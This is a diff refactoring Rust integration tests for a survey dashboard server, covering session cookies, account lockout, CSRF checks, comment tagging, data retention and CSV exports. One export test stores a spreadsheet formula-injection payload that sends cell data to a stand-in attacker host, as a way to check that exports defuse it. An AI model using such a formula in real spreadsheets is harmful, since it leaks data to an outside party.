@@ -21,7 +21,7 @@ use tower::ServiceExt;
 
 mod common;
 
-use common::{Backend, TestDb, client::Client, rand_suffix};
+use common::{Backend, PASSWORD, TestDb, client::Client, rand_suffix, signed_in};
 
 async fn app_on(backend: Backend) -> Option<(Router, Arc<AppState>, TestDb)> {
     common::app_with(backend, "dash", |config| {
@@ -53,26 +53,13 @@ on_both!(
     equality_gaps_are_the_cores_and_characteristics_stay_apart,
 );
 
-const PASSWORD: &str = "correct horse battery";
-
-async fn signed_in(app: &Router, state: &AppState, email: &str, site: &str, role: &str) -> Client {
-    users::add(&state.store, email, PASSWORD, site, role)
-        .await
-        .unwrap();
-    let mut c = Client::new(app);
-    let p = c.sign_in(email, PASSWORD).await;
-    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
-    c
-}
-
 async fn audit_actions(state: &AppState) -> Vec<(String, String, String)> {
-    sqlx::query("SELECT actor, action, detail FROM audit_log ORDER BY id")
-        .fetch_all(state.store.pool())
-        .await
-        .unwrap()
-        .iter()
-        .map(|r| (r.get(0), r.get(1), r.get(2)))
-        .collect()
+    common::rows(
+        &state,
+        "SELECT actor, action, detail FROM audit_log ORDER BY id",
+        &[],
+    )
+    .await
 }
 
 async fn seed(state: &Arc<AppState>) {
@@ -185,13 +172,7 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
         .await;
     assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
     assert_eq!(p.location(), "/dashboard");
-    let cookie = p
-        .headers
-        .get_all(header::SET_COOKIE)
-        .iter()
-        .map(|v| v.to_str().unwrap().to_string())
-        .find(|v| v.starts_with("chorus_session="))
-        .expect("a session cookie");
+    let cookie = p.set_cookie("chorus_session");
     assert!(
         cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
         "{cookie}"
@@ -199,13 +180,7 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
     // The token is 256 bits, and only its hash is stored.
     let token = cookie["chorus_session=".len()..cookie.find(';').unwrap()].to_string();
     assert_eq!(token.len(), 64);
-    let hashes: Vec<String> = sqlx::query("SELECT token_hash FROM sessions")
-        .fetch_all(state.store.pool())
-        .await
-        .unwrap()
-        .iter()
-        .map(|r| r.get(0))
-        .collect();
+    let hashes: Vec<String> = common::column(&state, "SELECT token_hash FROM sessions", &[]).await;
     assert_eq!(hashes.len(), 1);
     assert_ne!(hashes[0], token);
 
@@ -217,8 +192,9 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
 
     // Signing out ends the session on the server, not only in the browser.
     let csrf = home.csrf();
-    let out = c.post("/dashboard/logout", &[("csrf", &csrf)]).await;
-    assert_eq!(out.status, StatusCode::SEE_OTHER);
+    c.form("/dashboard/logout", &csrf, &[])
+        .await
+        .want(StatusCode::SEE_OTHER);
     let mut replay = Client::new(&app);
     replay.cookies.insert("chorus_session".into(), token);
     assert_eq!(replay.get("/dashboard").await.status, StatusCode::SEE_OTHER);
@@ -253,13 +229,7 @@ async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
     );
     let mut t = Client::new(&tls);
     let p = t.sign_in("tls@trust.nhs.uk", PASSWORD).await;
-    let cookie = p
-        .headers
-        .get_all(header::SET_COOKIE)
-        .iter()
-        .map(|v| v.to_str().unwrap().to_string())
-        .find(|v| v.starts_with("__Host-chorus_session="))
-        .expect("a __Host- session cookie");
+    let cookie = p.set_cookie("__Host-chorus_session");
     assert!(
         cookie.contains("; Secure") && cookie.contains("Path=/;"),
         "{cookie}"
@@ -344,20 +314,22 @@ async fn repeated_failures_lock_the_account(app: Router, state: Arc<AppState>) {
         StatusCode::SEE_OTHER
     );
     // ...and once the lock has run out, the right password works and clears the count.
-    sqlx::query("UPDATE login_failures SET locked_until = $1, last_failure = $1")
-        .bind("2000-01-01T00:00:00.000Z")
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+    common::exec(
+        &state,
+        "UPDATE login_failures SET locked_until = $1, last_failure = $1",
+        &["2000-01-01T00:00:00.000Z".into()],
+    )
+    .await;
     assert_eq!(
         c.sign_in("l@trust.nhs.uk", PASSWORD).await.status,
         StatusCode::SEE_OTHER
     );
-    let left: i64 = sqlx::query("SELECT COUNT(*) FROM login_failures WHERE key LIKE 'account:%'")
-        .fetch_one(state.store.pool())
-        .await
-        .unwrap()
-        .get(0);
+    let left: i64 = common::value(
+        &state,
+        "SELECT COUNT(*) FROM login_failures WHERE key LIKE 'account:%'",
+        &[],
+    )
+    .await;
     assert_eq!(left, 0);
 }
 
@@ -369,16 +341,13 @@ async fn forms_without_the_right_csrf_token_change_nothing(app: Router, state: A
     let mut c = Client::new(&app);
     c.get("/dashboard/login").await;
     let p = c
-        .post(
+        .form(
             "/dashboard/login",
-            &[
-                ("csrf", "0000"),
-                ("email", "c@trust.nhs.uk"),
-                ("password", PASSWORD),
-            ],
+            "0000",
+            &[("email", "c@trust.nhs.uk"), ("password", PASSWORD)],
         )
-        .await;
-    assert_eq!(p.status, StatusCode::FORBIDDEN);
+        .await
+        .want(StatusCode::FORBIDDEN);
     assert!(p.body.contains("This form has expired"));
     assert!(!c.cookies.contains_key("chorus_session"));
 
@@ -401,13 +370,13 @@ async fn forms_without_the_right_csrf_token_change_nothing(app: Router, state: A
             .status,
         StatusCode::FORBIDDEN
     );
-    let r = c
-        .post(
-            "/dashboard/comments/1/tags",
-            &[("csrf", "wrong"), ("action", "add"), ("tag", "x")],
-        )
-        .await;
-    assert_eq!(r.status, StatusCode::FORBIDDEN);
+    c.form(
+        "/dashboard/comments/1/tags",
+        "wrong",
+        &[("action", "add"), ("tag", "x")],
+    )
+    .await
+    .want(StatusCode::FORBIDDEN);
     // Still signed in, and nothing was done.
     assert_eq!(c.get("/dashboard").await.status, StatusCode::OK);
     assert_eq!(audit_actions(&state).await.len(), before);
@@ -505,11 +474,7 @@ async fn bad_filters_get_a_clear_error(app: Router, state: Arc<AppState>) {
 /// alike: they share one CSV writer.
 async fn every_export_defuses_spreadsheet_formulas(app: Router, state: Arc<AppState>) {
     let evil = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";
-    sqlx::query("INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')")
-        .bind(evil)
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+    common::exec(&state, "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')", &[evil.into()]).await;
     let service_cells = |csv_text: &str| -> Vec<String> {
         let mut r = csv::Reader::from_reader(csv_text.as_bytes());
         let at = r
@@ -843,48 +808,33 @@ async fn comments_are_redacted_and_can_be_tagged(app: Router, state: Arc<AppStat
     );
     assert!(!page.body.contains("07700"));
     assert!(page.body.contains("The food was cold"));
-    let id: i64 = sqlx::query("SELECT id FROM responses WHERE idempotency_key = $1")
-        .bind("comment-0002")
-        .fetch_one(state.store.pool())
-        .await
-        .unwrap()
-        .get(0);
+    let id: i64 = common::value(
+        &state,
+        "SELECT id FROM responses WHERE idempotency_key = $1",
+        &["comment-0002".into()],
+    )
+    .await;
     let csrf = page.csrf();
     let uri = format!("/dashboard/comments/{id}/tags");
-    let p = c
-        .post(
-            &uri,
-            &[
-                ("csrf", &csrf),
-                ("action", "add"),
-                ("tag", "  Food  Quality "),
-            ],
-        )
-        .await;
-    assert_eq!(p.status, StatusCode::SEE_OTHER);
+    c.form(&uri, &csrf, &[("action", "add"), ("tag", " Food Quality ")])
+        .await
+        .want(StatusCode::SEE_OTHER);
     // Bad tags are a clear error and change nothing.
     let p = c
-        .post(
-            &uri,
-            &[("csrf", &csrf), ("action", "add"), ("tag", "<script>")],
-        )
-        .await;
-    assert_eq!(p.status, StatusCode::BAD_REQUEST);
+        .form(&uri, &csrf, &[("action", "add"), ("tag", "<script>")])
+        .await
+        .want(StatusCode::BAD_REQUEST);
     assert!(p.body.contains("Enter a tag of 1 to 40 letters"));
     let tagged = c.get("/dashboard/comments?tag=food+quality").await;
     assert!(tagged.body.contains("The food was cold"));
     assert!(!tagged.body.contains("[phone number]"));
-    let p = c
-        .post(
-            &uri,
-            &[
-                ("csrf", &csrf),
-                ("action", "remove"),
-                ("tag", "food quality"),
-            ],
-        )
-        .await;
-    assert_eq!(p.status, StatusCode::SEE_OTHER);
+    c.form(
+        &uri,
+        &csrf,
+        &[("action", "remove"), ("tag", "food quality")],
+    )
+    .await
+    .want(StatusCode::SEE_OTHER);
     let tagged = c.get("/dashboard/comments?tag=food+quality").await;
     assert!(tagged.body.contains("No comments match this filter."));
     let actions: Vec<String> = audit_actions(&state)
@@ -902,25 +852,17 @@ async fn a_retention_run_deletes_old_responses_and_is_audited(app: Router, state
     // Ten responses made older than the demo site's 730 days; one of them tagged.
     let old: Vec<i64> = stored(&state).await.iter().take(10).map(|r| r.0).collect();
     for id in &old {
-        sqlx::query("UPDATE responses SET received_at = $1 WHERE id = $2")
-            .bind("2020-01-01T00:00:00.000Z")
-            .bind(*id)
-            .execute(state.store.pool())
-            .await
-            .unwrap();
+        common::exec(
+            &state,
+            "UPDATE responses SET received_at = $1 WHERE id = $2",
+            &["2020-01-01T00:00:00.000Z".into(), (*id).into()],
+        )
+        .await;
     }
-    sqlx::query("INSERT INTO comment_tags (response_id, tag, added_at) VALUES ($1, 'old', '2020-01-02T00:00:00.000Z')")
-        .bind(old[0])
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+    common::exec(&state, "INSERT INTO comment_tags (response_id, tag, added_at) VALUES ($1, 'old', '2020-01-02T00:00:00.000Z')", &[(old[0]).into()]).await;
     assert_eq!(chorus_server::apply_retention(&state).await, 10);
     assert_eq!(state.store.count().await.unwrap(), 200);
-    let tags: i64 = sqlx::query("SELECT COUNT(*) FROM comment_tags")
-        .fetch_one(state.store.pool())
-        .await
-        .unwrap()
-        .get(0);
+    let tags: i64 = common::value(&state, "SELECT COUNT(*) FROM comment_tags", &[]).await;
     assert_eq!(tags, 0, "tags go with their response");
     let audit = audit_actions(&state).await;
     assert!(audit.contains(&(
@@ -952,15 +894,9 @@ async fn reports_and_exports_read_more_than_one_page(app: Router, state: Arc<App
     seed(&state).await;
     // 210 seeded responses copied ten times over: more than one page (2,000 rows) to read.
     for copy in 1..=10 {
-        sqlx::query(
-            "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, score_mismatch, received_at)
+        common::exec(&state, "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, score_mismatch, received_at)
              SELECT site, service, instrument, version, locale, idempotency_key || $1, body_hash, answers, scores, score_mismatch, received_at
-             FROM responses WHERE idempotency_key LIKE 'seed-%' AND idempotency_key NOT LIKE '%-copy-%'",
-        )
-        .bind(format!("-copy-{copy}"))
-        .execute(state.store.pool())
-        .await
-        .unwrap();
+             FROM responses WHERE idempotency_key LIKE 'seed-%' AND idempotency_key NOT LIKE '%-copy-%'", &[(format!("-copy-{copy}")).into()]).await;
     }
     // Rows written behind the store's back are rolled up as an operator would after such
     // a change (`chorus rollup rebuild`); reports read the rollups, exports the rows.
